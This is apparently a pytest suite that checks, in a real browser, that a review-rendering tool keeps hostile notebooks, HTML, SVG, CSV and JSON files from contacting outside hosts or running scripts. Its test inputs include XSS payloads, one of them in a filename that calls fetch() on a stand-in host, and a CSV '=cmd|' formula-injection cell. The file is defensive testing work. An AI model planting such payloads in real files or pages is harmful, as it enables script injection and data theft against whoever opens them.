"""In a real browser: a hostile file's page reaches nobody and runs nothing, and each of its two layers does alone."""

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from time import monotonic, sleep

import nbformat
import pytest
from nbconvert import HTMLExporter
from playwright.sync_api import Browser, Page

from egress_review.checks.models import HeldFile
from egress_review.rendering import REVIEW_HEADERS, render
from tests.egress_review.hostile import (
    LOADING,
    NAVIGATING,
    REACHED_BY_LOADING,
    hostile_html,
    hostile_notebook,
    hostile_svg,
    picture,
)
from tests.support.browser import chromium

PLAIN_HEADERS = {"Content-Type": "text/html; charset=utf-8"}
SCREENSHOTS = Path("build/screenshots")


@dataclass
class Server:
    """A loopback server of the test's own: what it serves, and every request it ever got."""

    address: str = ""
    pages: dict[str, tuple[dict[str, str], bytes]] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)


@contextmanager
def serving() -> Iterator[Server]:
    served = Server()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            served.requests.append(self.path)
            headers, body = served.pages.get(self.path, ({"Access-Control-Allow-Origin": "*"}, b""))
            self.send_response(200)
            for name, value in headers.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing on the terminal."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    served.address = f"http://127.0.0.1:{server.server_port}"
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield served
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture
def outside() -> Iterator[Server]:
    """What stands for the internet."""
    with serving() as server:
        yield server


def plain_nbconvert(notebook: bytes, outside: str) -> bytes:
    """The page as nbconvert makes it by itself; what it would load from the internet, it loads from `outside`."""
    urls = {
        name: f"{outside}/{name}"
        for name in ("require_js_url", "mathjax_url", "mermaid_js_url", "mermaid_layout_elk_js_url", "jquery_url")
    }
    html, _ = HTMLExporter(**urls).from_notebook_node(nbformat.reads(notebook.decode(), as_version=4))
    return str(html).encode()


def look_at(browser: Browser, html: bytes, headers: dict[str, str], then: str = "") -> Page:
    """Open a page in a fresh browser context as a checker would, and give it time to do what it wants to do."""
    with serving() as portal:
        portal.pages["/file"] = (headers, html)
        page = browser.new_context().new_page()
        page.goto(f"{portal.address}/file", wait_until="commit")
        page.wait_for_timeout(1000)
        if then and page.locator(then).count():
            page.locator(then).first.click(timeout=2000)
            page.wait_for_timeout(500)
    return page


def still_to_come(outside: Server) -> set[str]:
    return REACHED_BY_LOADING - {path.lstrip("/") for path in outside.requests}


def wait_until(it_holds: Callable[[], bool], seconds: float = 20) -> None:
    """Wait for what a browser does in its own time, such as a prefetch."""
    deadline = monotonic() + seconds
    while not it_holds() and monotonic() < deadline:
        sleep(0.1)


def test_the_attack_works_without_the_defence(browser: Browser, outside: Server) -> None:
    hostile = hostile_notebook(outside.address, LOADING)
    seen = look_at(browser, plain_nbconvert(hostile, outside.address), PLAIN_HEADERS)
    wait_until(lambda: not still_to_come(outside))
    assert still_to_come(outside) == set(), "these did not work as an attack"
    assert seen.title() == "a script ran"


@pytest.mark.parametrize("way", NAVIGATING)
def test_taking_the_page_away_works_without_the_defence(browser: Browser, outside: Server, way: str) -> None:
    hostile = hostile_notebook(outside.address, NAVIGATING[way])
    look_at(browser, plain_nbconvert(hostile, outside.address), PLAIN_HEADERS)
    assert any(path.startswith(f"/{way}") for path in outside.requests)


def test_the_review_page_reaches_nobody_and_runs_nothing(browser: Browser, outside: Server) -> None:
    page = render(HeldFile("hostile.ipynb", hostile_notebook(outside.address)))
    seen = look_at(browser, page.html, dict(REVIEW_HEADERS), then="text=a link")
    assert outside.requests == []
    assert seen.title() == "hostile.ipynb"
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    seen.screenshot(path=SCREENSHOTS / "review-hostile-notebook.png", full_page=True)


def test_the_headers_alone_hold(browser: Browser, outside: Server) -> None:
    hostile = plain_nbconvert(hostile_notebook(outside.address), outside.address)
    look_at(browser, hostile, dict(REVIEW_HEADERS))
    assert outside.requests == []


def test_the_page_alone_holds(browser: Browser, outside: Server) -> None:
    page = render(HeldFile("hostile.ipynb", hostile_notebook(outside.address)))
    seen = look_at(browser, page.html, PLAIN_HEADERS, then="text=a link")
    assert outside.requests == []
    assert seen.title() == "hostile.ipynb"


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("page.html", hostile_html),
        ("page.svg", hostile_svg),
        ("page.md", hostile_html),
        ("page.csv", lambda outside: f'a,b\n"<img src={outside}/cell>","=cmd|{outside}"\n'),
        ("page.json", lambda outside: f'{{"a": "<script src={outside}/json></script>"}}'),
        ("<img src=x onerror=fetch('{outside}')>.txt", lambda outside: "text"),
    ],
)
def test_other_files_reach_nobody_either(
    browser: Browser, outside: Server, name: str, make: Callable[[str], str]
) -> None:
    file = HeldFile(name.format(outside=outside.address), make(outside.address).encode())
    html = render(file).html
    for headers in (dict(REVIEW_HEADERS), PLAIN_HEADERS):
        assert look_at(browser, html, headers).title() == file.name
    assert outside.requests == []


def test_pictures_and_drawings_of_an_honest_file_are_shown(browser: Browser) -> None:
    for name, content in (
        ("plot.png", picture()),
        ("plot.jpg", picture("JPEG")),
        ("plot.svg", hostile_svg("http://127.0.0.1:9").encode()),
    ):
        seen = look_at(browser, render(HeldFile(name, content)).html, dict(REVIEW_HEADERS))
        width = seen.evaluate("document.querySelector('img').naturalWidth")
        assert width > 0, name


@pytest.mark.parametrize(("from_elsewhere", "is_shown"), [(False, True), (True, False)])
def test_the_page_may_be_framed_by_its_own_origin_only(browser: Browser, from_elsewhere: bool, is_shown: bool) -> None:
    page = render(HeldFile("note.txt", b"the held text"))
    with serving() as portal, serving() as elsewhere:
        portal.pages["/file"] = (dict(REVIEW_HEADERS), page.html)
        framer = elsewhere if from_elsewhere else portal
        framer.pages["/review"] = (PLAIN_HEADERS, f'<iframe sandbox src="{portal.address}/file"></iframe>'.encode())
        seen = browser.new_context().new_page()
        seen.goto(f"{framer.address}/review")
        frame = seen.frames[1]
        assert ("the held text" in frame.content()) is is_shown
